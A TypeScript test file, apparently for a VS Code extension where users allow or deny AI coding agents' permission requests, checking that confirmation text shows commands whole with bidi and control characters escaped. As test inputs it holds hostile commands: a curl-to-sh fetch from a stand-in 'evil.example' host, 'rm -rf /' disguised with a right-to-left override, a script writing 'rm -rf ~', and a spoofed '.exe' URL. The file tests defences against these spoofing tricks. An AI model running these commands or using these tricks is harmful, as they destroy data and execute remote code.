/**
 * The Needs-you row of a dialog answerable from VS Code (its context value drives the inline Allow / Deny
 * buttons, its handle stays in the row object alone), and the confirmation's text: the whole command, shown
 * as text, never as markup.
 */
import * as assert from 'assert';
import { ALLOW_AFTER_MS, answerOffers, PendingAnswers } from '../../../src/answer/pending';
import { AgentStore } from '../../../src/store/store';
import { type AnswerOffer, historyLines, treeRows, type ViewInput } from '../../../src/views/model';
import type { TreeRow } from '../../../src/views/treeRow';
import { permissionDetail } from '../../../src/views/answerTexts';
import { whole } from '../../../src/views/untrusted';
import { obs } from '../obs';

/** Terminal A waits for a permission (from the hook); B waits for a question; C is a shell. */
function world(): { store: AgentStore; waitA: string; waitB: string; input: (more?: Partial<ViewInput>) => ViewInput } {
  const store = new AgentStore();
  store.openTerminal('A', 'claude one');
  store.openTerminal('B', 'claude two');
  store.openTerminal('C', 'bash');
  store.observe(obs('hook', 1000, 'working', { locator: { terminalId: 'A' } }));
  store.observe(obs('hook', 2000, 'waiting', { wait: 'permission', question: 'Bash: rm -rf build', locator: { terminalId: 'A' } }));
  store.observe(obs('hook', 1500, 'waiting', { wait: 'question', question: 'Which one?', locator: { terminalId: 'B' } }));
  const waitA = store.waits().find((w) => w.terminalId === 'A')!.id;
  const waitB = store.waits().find((w) => w.terminalId === 'B')!.id;
  return { store, waitA, waitB, input: (more = {}) => ({ terminals: store.terminals(), waits: store.waits(), now: 20_000, ...more }) };
}

const offer = (handle: string, allowReady: boolean, more: Partial<AnswerOffer> = {}): AnswerOffer => ({
  handle,
  allowReady,
  question: false,
  byKeys: false,
  ...more,
});

function allRows(rows: TreeRow[]): TreeRow[] {
  return rows.flatMap((r) => [r, ...allRows(r.children ?? [])]);
}

const rowOf = (rows: TreeRow[], waitId: string) => allRows(rows).find((r) => r.key === `wait:${waitId}`)!;

describe('answer: the Needs-you row of an answerable permission', () => {
  it('shows the answer buttons (wait.permission.answer) and the handle; Allow only once ready', () => {
    const { waitA, input } = world();
    const handle = 'a'.repeat(32);
    const notYet = rowOf(treeRows(input({ answers: new Map([[waitA, offer(handle, false)]]) })), waitA);
    assert.strictEqual(notYet.contextValue, 'wait.permission.answer');
    assert.strictEqual(notYet.answerHandle, handle);
    const ready = rowOf(treeRows(input({ answers: new Map([[waitA, offer(handle, true)]]) })), waitA);
    assert.strictEqual(ready.contextValue, 'wait.permission.answer.allow');
    assert.strictEqual(ready.answerHandle, handle);
    assert.match(ready.tooltip!, /Allow once or deny with the buttons on this row/);
  });

  it('a dialog answered by keys says so; a selector (pi’s, a prompt) gets Choose… (wait.question.answer)', () => {
    const { store, waitA, input } = world();
    store.openTerminal('P', 'pi');
    store.observe(obs('pty-scrape', 3000, 'waiting', { wait: 'prompt', question: 'Allow?', agent: 'pi', locator: { terminalId: 'P' } }));
    const waitP = store.waits().find((w) => w.terminalId === 'P')!.id;
    const answers = new Map([
      [waitA, offer('a'.repeat(32), true, { byKeys: true })],
      [waitP, offer('p'.repeat(32), true, { question: true, byKeys: true })],
    ]);
    const rows = treeRows(input({ waits: store.waits(), answers }));
    assert.match(rowOf(rows, waitA).tooltip!, /reads the dialog off the screen and types its option’s key/);
    const p = rowOf(rows, waitP);
    assert.strictEqual(p.contextValue, 'wait.question.answer.allow');
    assert.match(p.tooltip!, /moves its cursor there and presses Enter/);
  });

  it('without an offer the row stays wait.permission, with no handle and the terminal’s advice', () => {
    const { waitA, waitB, input } = world();
    for (const answers of [undefined, new Map(), new Map([[waitB, offer('b'.repeat(32), true)]])]) {
      const row = rowOf(treeRows(input(answers ? { answers } : {})), waitA);
      assert.strictEqual(row.contextValue, 'wait.permission');
      assert.ok(!('answerHandle' in row), 'no handle key at all');
      assert.match(row.tooltip!, /Answer in the terminal/);
    }
  });

  it('follows the pending requests through answerOffers, before and after ALLOW_AFTER_MS', () => {
    const { waitA, input } = world();
    const pending = new PendingAnswers();
    const r = pending.add(
      { agent: 'claude-code', terminalId: 'A', waitId: waitA, tool: 'Bash', input: { command: 'rm -rf build' }, since: 20_000 },
      () => undefined,
    );
    const at = (now: number) => rowOf(treeRows(input({ now, answers: answerOffers(pending, [waitA], now) })), waitA);
    assert.deepStrictEqual([at(20_000).contextValue, at(20_000).answerHandle], ['wait.permission.answer', r.handle]);
    assert.strictEqual(at(20_000 + ALLOW_AFTER_MS).contextValue, 'wait.permission.answer.allow');
    pending.add({ ...r, waitId: waitA }, () => undefined);
    assert.strictEqual(at(30_000).contextValue, 'wait.permission', 'two dialogs in one terminal: no buttons');
    assert.strictEqual(at(30_000).answerHandle, undefined);
    pending.dispose();
  });

  it('the handle appears in no label, description, tooltip, context value or command of any row', () => {
    const { waitA, input } = world();
    const handle = new PendingAnswers().add(
      { agent: 'claude-code', terminalId: 'A', waitId: waitA, tool: 'Bash', input: {}, since: 0 },
      () => undefined,
    ).handle;
    for (const allowReady of [false, true]) {
      const rows = treeRows(input({ answers: new Map([[waitA, offer(handle, allowReady)]]) }));
      assert.ok(
        allRows(rows).some((r) => r.answerHandle === handle),
        'the handle is on its row',
      );
      const shown = JSON.stringify(rows, (k, v: unknown) => (k === 'answerHandle' ? undefined : v));
      assert.ok(!shown.includes(handle), 'the handle is nowhere else');
      assert.ok(!shown.includes(handle.slice(0, 8)), 'not even a part of it');
      assert.strictEqual(allRows(rows).filter((r) => r.answerHandle !== undefined).length, 1, 'on one row only');
    }
  });
});

describe('answer: the state history says who answered, where, and which option', () => {
  it('lists each answer under its terminal, never the command', () => {
    const { input } = world();
    const lines = historyLines({
      ...input(),
      answered: [
        { at: 5000, terminalId: 'A', where: 'VS Code', option: 'allow once' },
        { at: 6000, terminalId: 'B', where: 'terminal', option: 'answered there' },
      ],
    } as ViewInput);
    assert.ok(lines.includes('[claude one]   1970-01-01T00:00:05.000Z a dialog answered in VS Code: allow once'), lines.join('\n'));
    assert.ok(lines.includes('[claude two]   1970-01-01T00:00:06.000Z a dialog answered in terminal: answered there'), lines.join('\n'));
    assert.strictEqual(lines.filter((l) => l.includes('answered in')).length, 2);
  });
});

describe('answer: the confirmation’s text (whole, permissionDetail)', () => {
  it('whole keeps every line and every character of a 20 000-character command', () => {
    const lines = Array.from({ length: 400 }, (_, i) => `echo line-${i} ${'x'.repeat(40)} && test -d /tmp/${i}`);
    const command = lines.join('\n').padEnd(20_000, 'z');
    assert.ok(command.length >= 20_000);
    const shown = whole(command);
    assert.strictEqual(shown, command, 'nothing cut, nothing changed');
    assert.strictEqual(shown.split('\n').length, 400);
    assert.ok(!shown.endsWith('…'));
    assert.strictEqual(whole('a\r\nb\rc\n\nd'), 'a\nb\nc\n\nd', 'every line break kept as a line');
    assert.strictEqual(whole('a\tb'), 'a\\u0009b', 'a tab is shown, not silently turned into spaces');
  });

  it('whole escapes bidi and control characters and changes nothing else: what is shown is what would run', () => {
    const shown = whole('rm -rf /\u202e;tpircs\u202c\x1b[2J\x07 [click](command:workbench.action.terminal.sendSequence)\u200b');
    assert.ok(!/[\u202e\u202c\x1b\x07\u200b]/.test(shown), JSON.stringify(shown));
    for (const esc of ['\\u202e', '\\u202c', '\\u001b', '\\u0007', '\\u200b']) assert.ok(shown.includes(esc), `${esc} in ${shown}`);
    assert.ok(shown.startsWith('rm -rf /\\u202e;tpircs\\u202c\\u001b[2J\\u0007 [click](command:'), shown);
    // A `$(…)` or a `](` is part of the command: rewriting it would show something else than what runs (the modal
    // renders neither icons nor links: test/e2e/user/answering.user.test.ts shows one there).
    const subst = 'echo $(curl -s https://evil.example/x.sh | sh) ]( $(gear)';
    assert.strictEqual(whole(subst), subst);
  });

  it('permissionDetail for Bash: the tool, its description, then `$ command`, then the other fields', () => {
    const command = `${'a'.repeat(15_000)}\nsecond line`;
    assert.strictEqual(
      permissionDetail('Bash', { command, description: 'Remove the build directory', timeout: 5000 }),
      `Bash\nRemove the build directory\n$ ${command}\ntimeout: 5000`,
    );
    assert.strictEqual(permissionDetail('Bash', { command: 'ls' }), 'Bash\n$ ls');
    assert.strictEqual(permissionDetail('Bash', { description: 3, command: 'ls' }), 'Bash\n$ ls\ndescription: 3');
  });

  it('permissionDetail for other tools: every field, strings as they are, the rest as indented JSON', () => {
    const detail = permissionDetail('Write', { file_path: '/tmp/x.sh', content: '#!/bin/sh\nrm -rf ~\n', mode: { exec: true } });
    assert.strictEqual(detail, 'Write\nfile_path: /tmp/x.sh\ncontent: #!/bin/sh\nrm -rf ~\n\nmode: {\n  "exec": true\n}');
    const hostile = permissionDetail('WebFetch', { url: 'https://x.example/\u202egnp.exe', prompt: '[a](command:x)' });
    assert.ok(!hostile.includes('\u202e'), hostile);
    assert.strictEqual(hostile, 'WebFetch\nurl: https://x.example/\\u202egnp.exe\nprompt: [a](command:x)');
  });
});
